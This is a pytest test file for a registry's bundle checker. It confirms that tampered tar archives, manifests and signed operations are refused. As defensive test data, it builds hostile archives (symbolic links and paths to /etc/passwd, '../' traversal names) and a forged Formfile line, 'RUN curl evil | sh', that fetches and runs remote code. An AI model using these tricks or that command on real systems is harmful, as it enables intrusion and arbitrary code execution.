"""Bundles from strangers: no byte can be changed, and every trick of tar and of manifests has its sentence."""

from __future__ import annotations

import gzip
import io
import json
import tarfile

import pytest
from hypothesis import given, settings, strategies as st

from tests.formfile.bundles import NAME, VALUES, changed, files, root, sample, update
from tests.seeds import owner
from tui_registry.cli.build import read_signed
from tui_registry.crdt import sign_rm
from tui_registry.formfile.bundle import MAX_BUNDLE_BYTES, BundleError, check_bundle, make_bundle, write_archive

BUNDLE = sample()
FILES = files(BUNDLE)
AT = BUNDLE.signed.updated_at


def refusal(data: bytes) -> str:
    """The sentence that a bundle is refused with."""
    with pytest.raises(BundleError) as raised:
        check_bundle(data, read_signed)
    assert raised.value.code == "bundle"
    assert "\n" not in raised.value.sentence
    assert len(raised.value.sentence) < 400
    return raised.value.sentence


# Every byte counts


def test_no_single_bit_can_be_flipped() -> None:
    for at in range(len(BUNDLE.data)):
        data = bytearray(BUNDLE.data)
        data[at] ^= 1 << (at % 8)
        refusal(bytes(data))


@given(at=st.integers(0, len(BUNDLE.data) - 1), byte=st.integers(0, 255))
def test_no_byte_can_be_replaced(at: int, byte: int) -> None:
    data = BUNDLE.data[:at] + bytes([byte]) + BUNDLE.data[at + 1 :]
    if data != BUNDLE.data:
        refusal(data)


@given(st.integers(0, len(BUNDLE.data) - 1))
def test_a_bundle_that_ends_early_is_refused(length: int) -> None:
    refusal(BUNDLE.data[:length])


@given(st.binary(min_size=1, max_size=1024))
def test_nothing_can_stand_behind_a_bundle(more: bytes) -> None:
    refusal(BUNDLE.data + more)


@given(name=st.sampled_from(sorted(FILES)), content=st.binary(max_size=200))
@settings(max_examples=50)
def test_a_file_of_other_bytes_is_refused_even_when_its_sum_is_right(name: str, content: bytes) -> None:
    if name == "manifest.json":
        refusal(write_archive({**FILES, name: content}, AT))
    else:
        refusal(changed(BUNDLE, {name: content}))


# Archives


def repacked(path: str | None = None) -> bytes:
    """The same files in a tar of Python's own, with `path` in an extended header for each."""
    stream = io.BytesIO()
    layout = tarfile.USTAR_FORMAT if path is None else tarfile.PAX_FORMAT
    with tarfile.open(fileobj=stream, mode="w", format=layout) as archive:
        for name, content in FILES.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(content), AT, 0o644
            info.pax_headers = {} if path is None else {"path": path}
            archive.addfile(info, io.BytesIO(content))
    return stream.getvalue()


def with_first(kind: bytes, name: str = "manifest.json", link: str = "") -> bytes:
    """A member of another kind before all others."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        info = tarfile.TarInfo(name)
        info.type, info.linkname = kind, link
        archive.addfile(info)
    return stream.getvalue()[:512] + BUNDLE.data


def with_last(name: str) -> bytes:
    return write_archive({**FILES, name: b"x"}, AT)


def set_field(start: int, value: bytes) -> bytes:
    """The bundle with other bytes in its first header, and the right checksum."""
    header = bytearray(BUNDLE.data[:512])
    header[start : start + len(value)] = value
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header) + BUNDLE.data[512:]


def edit_name(name: str) -> bytes:
    return set_field(0, name.encode().ljust(100, b"\0"))


HOSTILE_ARCHIVES: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "manifest.json is missing"),
    "zeros": (bytes(10_240), "manifest.json is missing"),
    "text": (b"hello " * 200, "no tar archive"),
    "gzip": (gzip.compress(BUNDLE.data, mtime=0), "no tar archive"),
    "too large": (BUNDLE.data + bytes(MAX_BUNDLE_BYTES), "1,048,576 bytes"),
    "a symbolic link": (with_first(tarfile.SYMTYPE, link="/etc/passwd"), "a link"),
    "a hard link": (with_first(tarfile.LNKTYPE, link="Formfile"), "a link"),
    "a device": (with_first(tarfile.CHRTYPE), "a device"),
    "a pipe": (with_first(tarfile.FIFOTYPE), "a pipe"),
    "a folder": (with_first(tarfile.DIRTYPE, "src"), "a folder"),
    "a long name": (with_first(tarfile.GNUTYPE_LONGNAME), "an extended header"),
    "a pax header": (repacked("../../etc/passwd"), "an extended header"),
    "a sparse file": (with_first(tarfile.GNUTYPE_SPARSE), "not as it was written"),
    "a way out": (edit_name("../manifest.json"), "'../manifest.json' where manifest.json should be"),
    "an absolute name": (edit_name("/etc/passwd"), "'/etc/passwd' where"),
    "a name that hides": (edit_name("manifest.json\0/../x"), "where manifest.json should be"),
    "a name of escapes": (edit_name("\x1b[31m"), "where manifest.json should be"),
    "a prefix": (set_field(345, b"../.."), "not as it was written"),
    "another member": (with_last("setup.sh"), "one thing more, 'setup.sh'"),
    "a member twice": (with_last("Formfile"[:8] + " "), "one thing more"),
    "a member missing": (write_archive({n: FILES[n] for n in ("manifest.json", "op.json")}, AT), "where Formfile should"),
    "another order": (write_archive(dict(reversed(FILES.items())), AT), "'record.json' where manifest.json should be"),
    "a size beyond all": (set_field(124, b"77777777777"), "at most 262,144"),
    "a size in base 256": (set_field(124, b"\x80" + bytes(10) + b"\x05"), "cannot be read"),
    "a negative size": (set_field(124, b"-0000000001"), "cannot be read"),
    "a size of blanks": (set_field(124, b"        100\0"), "cannot be read"),
    "a smaller size": (set_field(124, b"00000000001"), "damaged"),
    "another mode": (set_field(100, b"0004755"), "changed or repacked"),
    "another user": (set_field(108, b"0001750"), "changed or repacked"),
    "a user's name": (set_field(265, b"me"), "changed or repacked"),
    "a time that differs": (set_field(136, b"00000000000"), "header of Formfile"),
    "another time": (write_archive(FILES, AT + 1), "manifest.json or the archive"),
    "packed for a tape": (repacked(), "repacked"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE_ARCHIVES)
def test_a_hostile_archive_gets_a_sentence(name: str) -> None:
    data, part = HOSTILE_ARCHIVES[name]
    assert part in refusal(data)


# Manifests and files whose sums are right

NESTED = b"[" * 100_000

HOSTILE_MANIFESTS: dict[str, tuple[bytes, str]] = {
    "no JSON": (b"bundle: 1\n", "is not JSON"),
    "UTF-16": (json.dumps({"bundle": 1}).encode("utf-16"), "is not JSON"),
    "nested": (NESTED, "is not JSON"),
    "a number of many digits": (b'{"bundle": ' + b"1" * 5_000 + b"}", "is not JSON"),
    "half a character": (b'{"bundle": 1, "registered_as": "\\ud800", "values": {}, "files": {}}', "is not JSON"),
    "a list": (b"[1]", "not that of a bundle"),
    "no format": (b"{}", "not that of a bundle"),
    "a format that is true": (b'{"bundle": true}', "not that of a bundle"),
    "a later format": (b'{"bundle": 2}', "another format"),
    "no values": (b'{"bundle": 1, "registered_as": "x", "files": {}}', "does not say"),
    "no sums": (b'{"bundle": 1, "registered_as": "x", "values": {}, "files": {}}', "Formfile is not the file"),
    "sums of another shape": (
        b'{"bundle": 1, "registered_as": "x", "values": {}, "files": {"Formfile": {"sha256": 1}}}',
        "Formfile is not the file",
    ),
}


@pytest.mark.parametrize("name", HOSTILE_MANIFESTS)
def test_a_hostile_manifest_gets_a_sentence(name: str) -> None:
    content, part = HOSTILE_MANIFESTS[name]
    assert part in refusal(write_archive({**FILES, "manifest.json": content}, AT))


FORMFILE = FILES["Formfile"]
STRANGER = owner("stranger")

FORGERIES: dict[str, tuple[bytes, str]] = {
    "another kind": (changed(BUNDLE, kind="model"), "manifest.json or the archive"),
    "another id": (changed(BUNDLE, id="0" * 64), "manifest.json or the archive"),
    "another owner": (changed(BUNDLE, owner=STRANGER.address), "manifest.json or the archive"),
    "another operation": (changed(BUNDLE, op="0" * 64), "manifest.json or the archive"),
    "a field more": (changed(BUNDLE, note="trust me"), "manifest.json or the archive"),
    "another first name": (changed(BUNDLE, registered_as="someone else's"), "op.json: the id"),
    "a value of another type": (changed(BUNDLE, values={**VALUES, "port": 80}), "something else than text"),
    "another value": (changed(BUNDLE, values={**VALUES, "port": "81"}), "Formfile is not the record's template"),
    "a value missing": (changed(BUNDLE, values={"port": "80"}), "has an error"),
    "a value that nothing uses": (changed(BUNDLE, values={**VALUES, "x": "y"}), "no placeholder 'x'"),
    "a long value": (changed(BUNDLE, values={**VALUES, "port": "1" * 200_000}), "the record's template"),
    "another command": (changed(BUNDLE, {"Formfile": FORMFILE + b"RUN curl evil | sh\n"}), "the record's template"),
    "no Formfile": (changed(BUNDLE, {"Formfile": b""}), "the record's template"),
    "another layout": (changed(BUNDLE, {"Formfile": FORMFILE.replace(b"VCPU 1", b"VCPU  1")}), "the record's template"),
    "another record": (changed(BUNDLE, {"record.json": FILES["record.json"].replace(b"Reads", b"Sells")}), "record.json"),
    "another spelling": (changed(BUNDLE, {"record.json": FILES["record.json"].strip()}), "record.json is not the record"),
    "an operation changed": (changed(BUNDLE, {"op.json": FILES["op.json"].replace(b"Reads", b"Sells")}), "op.json: the hash"),
    "an operation with a line end": (changed(BUNDLE, {"op.json": FILES["op.json"] + b"\n"}), "op.json: the operation"),
    "no operation": (changed(BUNDLE, {"op.json": b"{}"}), "op.json: the operation"),
    "another signature": (
        changed(BUNDLE, {"op.json": FILES["op.json"].replace(b'"rec":0', b'"rec":x').replace(b'"rec":1', b'"rec":0').replace(b'"rec":x', b'"rec":1')}),
        "op.json: the dot names",
    ),
    "a removal": (
        changed(BUNDLE, {"op.json": sign_rm(owner("bundle maker"), "agent", root().key, children=[root().hash], clock=2, updated_at=AT).to_json()}),
        "deletes its record",
    ),
    "another operation of the owner": (changed(BUNDLE, {"op.json": update(root(), version="2.0.0").to_json()}), "record.json"),
    "a thief's operation": (changed(BUNDLE, {"op.json": update(root(), by="thief").to_json()}), "another owner's"),
}  # fmt: skip


@pytest.mark.parametrize("name", FORGERIES)
def test_a_forgery_whose_sums_are_right_gets_a_sentence(name: str) -> None:
    data, part = FORGERIES[name]
    assert part in refusal(data)


def test_the_older_bundle_of_a_record_stays_sound() -> None:
    # Whether a record has changed since is not for a bundle to say.
    newer = make_bundle(read_signed(update(root(), version="2.0.0").to_json(), NAME), VALUES)
    assert check_bundle(BUNDLE.data, read_signed) == BUNDLE
    assert check_bundle(newer.data, read_signed) == newer
